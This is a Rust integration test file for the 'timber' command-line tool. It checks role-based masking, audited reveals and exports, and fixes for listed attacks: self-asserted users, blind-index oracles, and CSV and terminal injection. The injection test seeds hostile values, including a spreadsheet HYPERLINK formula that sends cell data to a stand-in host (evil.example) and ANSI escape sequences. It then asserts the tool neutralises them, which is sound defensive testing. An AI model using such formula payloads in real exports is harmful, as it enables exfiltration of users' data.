//! `timber browse` honours the role, through the real binary: masked by default in every
//! format, `--reveal` shows only what the role may reveal and writes exactly ONE audit entry
//! for the whole export, a role that requires a reason is refused without one (and nothing
//! is printed or recorded), and an unknown role is a clear error listing the roles.
//!
//! Issue 13's attacks through the same binary: the owner rule with a self-asserted user
//! (item 3), the blind index as an equality oracle (item 4), CSV and terminal injection
//! from revealed values (item 7), and what an export reveal records (item 9).

use std::path::Path;
use std::process::{Command, Output};

use crate::fixture::{ENCRYPTION_KEY, MASTER_KEY, models};
use crate::fixture_ring::ring;
use timber::audit::query::{self, AuditFilter};
use timber::store::{Store, StoreConfig, WriteContext};
use timber::value::Value;

const MODELS: &str = r#"
models:
  - name: Member
    table_name: members
    columns:
      - { name: id, type: Integer, primary_key: true }
      - { name: user_id, type: String(36) }
      - { name: email, type: String(255), encrypted: true }
      - { name: api_key, type: String(100), encrypted: true }
      - { name: notes, type: Text, encrypted: true }
  - name: Account
    table_name: accounts
    columns:
      - { name: id, type: Integer, primary_key: true }
      - { name: user_id, type: String(36) }
      - { name: email, type: String(255), encrypted: true, blind_index: email_hash }
      - { name: email_hash, type: String(64), indexed: true }
"#;

const POLICY: &str = r#"
default_role: viewer
owner_sees_own: true
roles:
  security_admin: { default: reveal, require_reason: true, actions: [reveal, export] }
  support:
    default: partial
    fields: { "Member.email": reveal, "*.api_key": hidden }
    actions: [reveal, export]
  reviewer:
    fields: { "Member.email": reveal }
    actions: [reveal]
  viewer: { default: redact }
  auditor: { default: hash }
"#;

fn email(n: i64) -> String {
    format!("xkcanary{n}@example.com")
}

async fn seeded(dir: &Path) -> (String, Store) {
    std::fs::create_dir_all(dir.join("models")).unwrap();
    std::fs::write(dir.join("models/members.yaml"), MODELS).unwrap();
    std::fs::write(dir.join("policy.yaml"), POLICY).unwrap();
    let url = format!("sqlite://{}", dir.join("m.db").display());
    let mut config = StoreConfig::from_url(&url).unwrap();
    config.create_if_missing = true;
    let store = Store::connect(config).await.unwrap();
    let all = models(MODELS);
    store.init(&all).await.unwrap();
    let model = all[0].clone();
    for n in 1..=3 {
        let fields = vec![
            ("id".to_string(), Value::Int(n)),
            ("user_id".to_string(), Value::Text(format!("member-{n}"))),
            ("email".to_string(), Value::Text(email(n))),
            ("api_key".to_string(), Value::Text(format!("XKAPIKEY{n}"))),
            (
                "notes".to_string(),
                Value::Text(format!("XKNOTES {n} private")),
            ),
        ];
        store
            .insert(&model, &ring(), &fields, WriteContext::default())
            .await
            .unwrap();
    }
    (url, store)
}

fn browse(dir: &Path, url: &str, role: &str, extra: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_timber"))
        .current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("DATABASE_URL", url)
        .env("ENCRYPTION_KEY", ENCRYPTION_KEY)
        .env("MASTER_ENCRYPTION_KEY", MASTER_KEY)
        .env("TIMBER_MODELS", dir.join("models"))
        .env("TIMBER_POLICY", dir.join("policy.yaml"))
        .args(["--role", role, "browse", "Member"])
        .args(extra)
        .output()
        .unwrap()
}

/// `timber ARGS...` against `url` with the test's keys, models and policy; no TIMBER_USER
/// (the acting user is the OS account).
fn timber(dir: &Path, url: &str, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_timber"))
        .current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("DATABASE_URL", url)
        .env("ENCRYPTION_KEY", ENCRYPTION_KEY)
        .env("MASTER_ENCRYPTION_KEY", MASTER_KEY)
        .env("TIMBER_MODELS", dir.join("models"))
        .env("TIMBER_POLICY", dir.join("policy.yaml"))
        .args(args)
        .output()
        .unwrap()
}

/// The OS account running the tests (what `timber` must take as the acting user).
fn os_user() -> String {
    let o = Command::new("id").arg("-un").output().unwrap();
    String::from_utf8(o.stdout).unwrap().trim().to_string()
}

fn err(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn out(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

async fn reveal_entries(store: &Store) -> Vec<timber::audit::AuditEntry> {
    let f = AuditFilter {
        action: Some("reveal".into()),
        ..AuditFilter::default()
    };
    query::list(store, &f, None, 100).await.unwrap()
}

#[tokio::test]
async fn browse_is_masked_by_default_in_every_format_for_every_role() {
    let dir = tempfile::tempdir().unwrap();
    let (url, store) = seeded(dir.path()).await;
    for role in ["security_admin", "support", "viewer"] {
        for format in ["json", "csv", "table"] {
            let o = browse(dir.path(), &url, role, &["--format", format]);
            assert!(
                o.status.success(),
                "{role} {format}: {}",
                String::from_utf8_lossy(&o.stderr)
            );
            let text = out(&o);
            for leak in ["xkcanary", "XKAPIKEY", "XKNOTES", "private"] {
                assert!(
                    !text.contains(leak),
                    "{role} {format} shows {leak}:\n{text}"
                );
            }
            assert!(text.contains("member-2"), "plain columns are shown: {text}");
        }
    }
    // The roles' masks differ as the policy says.
    let json = out(&browse(dir.path(), &url, "support", &["--format", "json"]));
    let row: serde_json::Value = serde_json::from_str(json.lines().next().unwrap()).unwrap();
    assert_eq!(row["email"], "x***@example.com");
    assert!(row.get("api_key").is_none(), "hidden column absent: {row}");
    assert_eq!(row["notes"], "XK***");
    let csv = out(&browse(dir.path(), &url, "support", &["--format", "csv"]));
    assert!(csv.starts_with("id,user_id,email,notes\n"), "{csv}");
    let json = out(&browse(dir.path(), &url, "viewer", &["--format", "json"]));
    let row: serde_json::Value = serde_json::from_str(json.lines().next().unwrap()).unwrap();
    assert_eq!(row["email"], "••••••");
    assert!(
        reveal_entries(&store).await.is_empty(),
        "masked browsing writes no entry"
    );
}

#[tokio::test]
async fn reveal_shows_what_the_role_may_with_one_audit_entry() {
    let dir = tempfile::tempdir().unwrap();
    let (url, store) = seeded(dir.path()).await;
    let o = browse(
        dir.path(),
        &url,
        "support",
        &["--reveal", "--format", "json"],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let text = out(&o);
    for n in 1..=3 {
        assert!(text.contains(&email(n)), "support may reveal email: {text}");
    }
    assert!(
        !text.contains("XKNOTES") && !text.contains("XKAPIKEY"),
        "{text}"
    );
    let entries = reveal_entries(&store).await;
    assert_eq!(entries.len(), 1, "one entry for the whole export");
    assert_eq!(entries[0].content.actor, os_user());
    assert_eq!(entries[0].content.record_id, None);
    assert_eq!(entries[0].content.fields, vec!["email".to_string()]);

    // A role that requires a reason: refused without one, nothing printed or recorded.
    let refused = browse(dir.path(), &url, "security_admin", &["--reveal"]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(out(&refused).is_empty());
    let err = String::from_utf8_lossy(&refused.stderr);
    assert!(
        err.contains("must give a reason") && err.contains("--reason"),
        "{err}"
    );
    assert_eq!(reveal_entries(&store).await.len(), 1);

    let o = browse(
        dir.path(),
        &url,
        "security_admin",
        &["--reveal", "--reason", "INC-7", "--format", "csv"],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(out(&o).contains("XKNOTES 3 private") && out(&o).contains("XKAPIKEY1"));
    let entries = reveal_entries(&store).await;
    assert_eq!(entries.len(), 2);
    let detail = timber::audit::read_detail(&ring(), &entries[0])
        .unwrap()
        .unwrap();
    assert_eq!(detail["reason"], "INC-7");
    assert_eq!(detail["scope"], "export");
}

#[tokio::test]
async fn unknown_role_lists_the_roles() {
    let dir = tempfile::tempdir().unwrap();
    let (url, _store) = seeded(dir.path()).await;
    let o = browse(dir.path(), &url, "root", &[]);
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("unknown role `root`"), "{err}");
    assert!(err.contains("security_admin, support, viewer"), "{err}");
    assert!(out(&o).is_empty());
}

/// `browse --reveal` writes plaintext out of the console, so it needs `export` as well as
/// `reveal`: a role that may reveal email cell by cell (`reviewer`) is refused the export,
/// and a role granted neither (`viewer`) too, each with one line naming the missing action
/// and the policy file; nothing is printed and no audit entry is written.
#[tokio::test]
async fn an_export_reveal_needs_the_export_action() {
    let dir = tempfile::tempdir().unwrap();
    let (url, store) = seeded(dir.path()).await;
    for (role, missing) in [("reviewer", "export"), ("viewer", "reveal")] {
        let o = browse(dir.path(), &url, role, &["--reveal", "--format", "json"]);
        assert_eq!(o.status.code(), Some(2), "{role}");
        assert!(out(&o).is_empty(), "{role}: nothing printed: {}", out(&o));
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(
            err.contains(&format!("role {role} may not"))
                && err.contains(&format!("policy.yaml grants it no \"{missing}\" action")),
            "{err}"
        );
    }
    assert!(
        reveal_entries(&store).await.is_empty(),
        "no reveal recorded"
    );
    // Masked browsing needs no action.
    let o = browse(dir.path(), &url, "reviewer", &["--format", "json"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(!out(&o).contains("xkcanary"), "{}", out(&o));
}

/// Every audit entry of the log, newest first.
async fn all_entries(store: &Store) -> Vec<timber::audit::AuditEntry> {
    query::list(store, &AuditFilter::default(), None, 1000)
        .await
        .unwrap()
}

async fn insert_member(store: &Store, id: i64, user: &str, notes: &str) {
    let model = models(MODELS).remove(0);
    let fields = vec![
        ("id".to_string(), Value::Int(id)),
        ("user_id".to_string(), Value::Text(user.into())),
        ("email".to_string(), Value::Text(email(id))),
        ("api_key".to_string(), Value::Text(format!("XKAPIKEY{id}"))),
        ("notes".to_string(), Value::Text(notes.into())),
    ];
    store
        .insert(&model, &ring(), &fields, WriteContext::default())
        .await
        .unwrap();
}

/// The ids a reveal entry lists in its plain detail.
fn listed_ids(entry: &timber::audit::AuditEntry) -> Vec<String> {
    let detail = timber::audit::read_detail(&ring(), entry).unwrap().unwrap();
    detail["ids"]
        .as_array()
        .map(|ids| {
            ids.iter()
                .map(|v| v.as_str().unwrap().to_string())
                .collect()
        })
        .unwrap_or_default()
}

/// Issue 13 item 3: looping `--user U --find user_id=U` used to print every owner's row in
/// plaintext with no audit entry. Now a user that is not the OS account is refused for a
/// role the policy does not let assert one, and the OS user's own rows are revealed only
/// with an entry naming their record ids.
#[tokio::test]
async fn owner_rule_refuses_an_asserted_user_and_audits_the_own_rows_it_reveals() {
    let dir = tempfile::tempdir().unwrap();
    let (url, store) = seeded(dir.path()).await;
    let me = os_user();
    insert_member(&store, 41, &me, "XKNOTES mine one").await;
    insert_member(&store, 42, &me, "XKNOTES mine two").await;
    for n in 1..=3 {
        let user = format!("member-{n}");
        let find = format!("user_id={user}");
        for via_env in [false, true] {
            let mut cmd = Command::new(env!("CARGO_BIN_EXE_timber"));
            cmd.current_dir(dir.path())
                .env_clear()
                .env("PATH", std::env::var("PATH").unwrap_or_default())
                .env("DATABASE_URL", &url)
                .env("ENCRYPTION_KEY", ENCRYPTION_KEY)
                .env("MASTER_ENCRYPTION_KEY", MASTER_KEY)
                .env("TIMBER_MODELS", dir.path().join("models"))
                .env("TIMBER_POLICY", dir.path().join("policy.yaml"))
                .args(["--role", "viewer"]);
            if via_env {
                cmd.env("TIMBER_USER", &user);
            } else {
                cmd.args(["--user", &user]);
            }
            let o = cmd
                .args(["browse", "Member", "--find", &find, "--format", "json"])
                .output()
                .unwrap();
            assert_eq!(o.status.code(), Some(2), "{user}: {}", err(&o));
            assert!(out(&o).is_empty(), "refused, nothing printed: {}", out(&o));
            let e = err(&o);
            assert_eq!(e.trim().lines().count(), 1, "one line: {e}");
            assert!(
                e.contains("`viewer`")
                    && e.contains(&format!("`{me}`"))
                    && e.contains("may_assert_user"),
                "names the role, the OS user and the setting: {e}"
            );
        }
    }
    assert!(all_entries(&store).await.is_empty(), "nothing was revealed");

    // As the OS user: the own rows are revealed, with ONE entry listing exactly them.
    let o = timber(
        dir.path(),
        &url,
        &["--role", "viewer", "browse", "Member", "--format", "json"],
    );
    assert!(o.status.success(), "{}", err(&o));
    let text = out(&o);
    assert!(
        text.contains(&email(41)) && text.contains("XKNOTES mine two"),
        "{text}"
    );
    assert!(
        !text.contains(&email(1)),
        "another owner's row stays masked: {text}"
    );
    let entries = reveal_entries(&store).await;
    assert_eq!(entries.len(), 1, "{entries:?}");
    assert_eq!(entries[0].content.actor, me);
    assert_eq!(entries[0].content.table_name.as_deref(), Some("members"));
    assert_eq!(listed_ids(&entries[0]), vec!["41", "42"]);
    let listing = timber(dir.path(), &url, &["audit", "--record", "42"]);
    assert!(
        out(&listing).contains(&format!("#{} ", entries[0].id)),
        "{}",
        out(&listing)
    );

    // A role the policy lets assert a user may; the entry says the user was asserted.
    let policy = POLICY.replace(
        "owner_sees_own: true",
        "owner_sees_own: true\nmay_assert_user: [support]",
    );
    std::fs::write(dir.path().join("policy.yaml"), policy).unwrap();
    let o = timber(
        dir.path(),
        &url,
        &[
            "--role", "support", "--user", "member-2", "browse", "Member", "--format", "json",
        ],
    );
    assert!(o.status.success(), "{}", err(&o));
    assert!(out(&o).contains("XKNOTES 2 private"), "{}", out(&o));
    let entries = reveal_entries(&store).await;
    assert_eq!(entries.len(), 2);
    assert_eq!(entries[0].content.actor, "member-2");
    let detail = timber::audit::read_detail(&ring(), &entries[0])
        .unwrap()
        .unwrap();
    assert_eq!(detail["asserted_user_from"], "flag --user", "{detail}");
    assert_eq!(detail["os_user"], me.as_str());
    let verify = timber(dir.path(), &url, &["audit", "--verify"]);
    assert!(verify.status.success(), "{}", out(&verify));
}

async fn insert_account(store: &Store, id: i64, user: &str, mail: &str) {
    let model = models(MODELS).remove(1);
    let fields = vec![
        ("id".to_string(), Value::Int(id)),
        ("user_id".to_string(), Value::Text(user.into())),
        ("email".to_string(), Value::Text(mail.into())),
    ];
    store
        .insert(&model, &ring(), &fields, WriteContext::default())
        .await
        .unwrap();
}

/// Every byte the database files hold, as text (for "the value is nowhere" checks).
fn database_bytes(dir: &Path) -> String {
    let mut all = Vec::new();
    for name in ["m.db", "m.db-wal", "m.db-journal"] {
        if let Ok(bytes) = std::fs::read(dir.join(name)) {
            all.extend(bytes);
        }
    }
    String::from_utf8_lossy(&all).into_owned()
}

/// Issue 13 item 4: the blind index used to be shown in full to roles that may not read the
/// email (for a legacy unkeyed hash, the email itself by dictionary), and `--find` worked
/// for them with no audit entry.
#[tokio::test]
async fn blind_index_is_masked_like_its_source_and_searching_needs_hash_and_is_audited() {
    let dir = tempfile::tempdir().unwrap();
    let (url, store) = seeded(dir.path()).await;
    insert_account(&store, 1, "member-1", "xkfound.person@example.com").await;
    insert_account(&store, 2, "member-2", "xkother.person@example.com").await;
    let account = |role: &str, extra: &[&str]| {
        let mut args = vec!["--role", role, "browse", "Account"];
        args.extend_from_slice(extra);
        timber(dir.path(), &url, &args)
    };
    let hex64 = |text: &str| {
        text.split(|c: char| !c.is_ascii_hexdigit())
            .any(|w| w.len() == 64)
    };

    // viewer has `redact` on email: the hash column is redacted too, in every format.
    for format in ["json", "csv", "table"] {
        let o = account("viewer", &["--format", format]);
        assert!(o.status.success(), "{}", err(&o));
        assert!(
            !hex64(&out(&o)),
            "viewer sees a full hash ({format}):\n{}",
            out(&o)
        );
    }
    let row: serde_json::Value = serde_json::from_str(
        out(&account("viewer", &["--format", "json"]))
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(row["email_hash"], "••••••", "{row}");

    // viewer may not search by email, nor by the hash column itself.
    let guess = "xkguess.nobody@example.com";
    for find in [
        format!("email={guess}"),
        format!("email_hash={}", "a".repeat(64)),
    ] {
        let o = account("viewer", &["--find", &find]);
        assert_eq!(o.status.code(), Some(2), "{find}: {}", out(&o));
        assert!(out(&o).is_empty());
        let e = err(&o);
        assert!(
            e.contains("`viewer`") && e.contains("Account by email"),
            "{e}"
        );
        assert!(e.contains("at least hash"), "{e}");
    }
    assert!(
        all_entries(&store).await.is_empty(),
        "a refused search writes nothing"
    );

    // auditor has `hash`: may search; each search is audited with its count, not its value.
    for (value, count) in [(guess, 0), ("xkfound.person@example.com", 1)] {
        let o = account(
            "auditor",
            &["--find", &format!("email={value}"), "--format", "json"],
        );
        assert!(o.status.success(), "{}", err(&o));
        assert_eq!(out(&o).lines().count(), count, "{}", out(&o));
    }
    let searches: Vec<_> = all_entries(&store)
        .await
        .into_iter()
        .filter(|e| e.content.action == "search")
        .collect();
    assert_eq!(searches.len(), 2, "{searches:?}");
    for (entry, count) in searches.iter().zip([1, 0]) {
        assert_eq!(entry.content.fields, vec!["email".to_string()]);
        assert_eq!(entry.content.table_name.as_deref(), Some("accounts"));
        let detail = timber::audit::read_detail(&ring(), entry).unwrap().unwrap();
        assert_eq!(detail["matches"], count, "{detail}");
        assert_eq!(detail["role"], "auditor");
    }
    // The searched values are nowhere in the audit log: not in any column, not in any
    // (decrypted) detail, not anywhere in the database files.
    for entry in all_entries(&store).await {
        let detail = timber::audit::read_detail(&ring(), &entry).unwrap();
        let everything = format!("{entry:?} {detail:?}");
        assert!(
            !everything.contains("xkguess") && !everything.contains("xkfound"),
            "{everything}"
        );
    }
    let bytes = database_bytes(dir.path());
    assert!(!bytes.contains("xkguess") && !bytes.contains("xkfound"));
}

/// Issue 13 item 7: revealed values that start a formula or carry terminal escapes went
/// out unchanged in CSV (and ESC became a silent space in tables).
#[tokio::test]
async fn csv_and_table_output_neutralise_formulas_and_control_characters() {
    let dir = tempfile::tempdir().unwrap();
    let (url, store) = seeded(dir.path()).await;
    let hostile = [
        (21, "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")"),
        (22, "-1+1"),
        (23, "@SUM(A1:A9)"),
        (24, "\tx-tab"),
        (25, "\rx-cr"),
        (26, "\u{1b}[31mred\u{1b}[0m and \u{9b}2J"),
    ];
    for (id, notes) in hostile {
        insert_member(&store, id, "member-9", notes).await;
    }
    let export = |format: &str| {
        timber(
            dir.path(),
            &url,
            &[
                "--role",
                "security_admin",
                "browse",
                "Member",
                "--after",
                "20",
                "--reveal",
                "--reason",
                "INC-9",
                "--format",
                format,
            ],
        )
    };
    let o = export("csv");
    assert!(o.status.success(), "{}", err(&o));
    let csv = out(&o);
    for expected in [
        "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"open\"\")\"",
        ",'-1+1\n",
        ",'@SUM(A1:A9)\n",
        ",'\tx-tab\n",
        ",'\\u{d}x-cr\n",
        ",\\u{1b}[31mred\\u{1b}[0m and \\u{9b}2J\n",
    ] {
        assert!(csv.contains(expected), "missing {expected:?} in:\n{csv}");
    }
    for raw in ['\u{1b}', '\r', '\u{9b}'] {
        assert!(!csv.contains(raw), "raw {raw:?} in CSV:\n{csv}");
    }
    for format in ["table", "json"] {
        let o = export(format);
        assert!(o.status.success(), "{}", err(&o));
        let text = out(&o);
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "{format} passes a control character: {text:?}"
        );
        if format == "table" {
            assert!(text.contains("\\u{1b}[31mred"), "{text}");
        }
    }
}

/// Issue 13 item 9: an export reveal wrote one entry with no count, filter or ids, so
/// nobody could say whose data left. Now it records them, and `audit --record` (and
/// `--grep`) find it by any exported id.
#[tokio::test]
async fn an_export_records_its_rows_and_audit_record_finds_it() {
    let dir = tempfile::tempdir().unwrap();
    let (url, store) = seeded(dir.path()).await;
    for id in 101..=107 {
        insert_member(&store, id, "member-8", "XKNOTES batch").await;
    }
    let o = timber(
        dir.path(),
        &url,
        &[
            "--role", "support", "browse", "Member", "--after", "100", "--limit", "5", "--reveal",
            "--format", "json",
        ],
    );
    assert!(o.status.success(), "{}", err(&o));
    assert_eq!(out(&o).lines().count(), 5);
    let entries = reveal_entries(&store).await;
    assert_eq!(entries.len(), 1);
    let entry = &entries[0];
    let detail = timber::audit::read_detail(&ring(), entry).unwrap().unwrap();
    assert_eq!(detail["rows"], 5, "{detail}");
    assert_eq!(listed_ids(entry), vec!["101", "102", "103", "104", "105"]);
    assert_eq!(detail["filter"]["limit"], 5, "{detail}");
    assert_eq!(detail["filter"]["after"], "100", "{detail}");
    use sha2::Digest;
    let digest = sha2::Sha256::digest(b"101\n102\n103\n104\n105\n");
    let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(detail["ids_sha256"], hex.as_str());

    let id_line = format!("#{} ", entry.id);
    for args in [
        &["audit", "--record", "103"][..],
        &["audit", "--grep", "103"][..],
        &["audit", "--record", "105", "--action", "reveal"][..],
    ] {
        let listing = timber(dir.path(), &url, args);
        assert!(listing.status.success(), "{}", err(&listing));
        let text = out(&listing);
        assert!(
            text.contains(&id_line) && text.contains("5 row(s)"),
            "{args:?}: {text}"
        );
    }
    let json = out(&timber(
        dir.path(),
        &url,
        &["audit", "--record", "104", "--format", "json"],
    ));
    let line: serde_json::Value = serde_json::from_str(json.lines().next().unwrap()).unwrap();
    assert_eq!(line["id"], entry.id);
    assert_eq!(line["record_match"], "named");
    // Rows never revealed: no entry, and the listing says so.
    for id in ["106", "1"] {
        let none = timber(dir.path(), &url, &["audit", "--record", id]);
        assert!(none.status.success());
        assert_eq!(out(&none).trim(), "no entries", "{id}");
    }
}
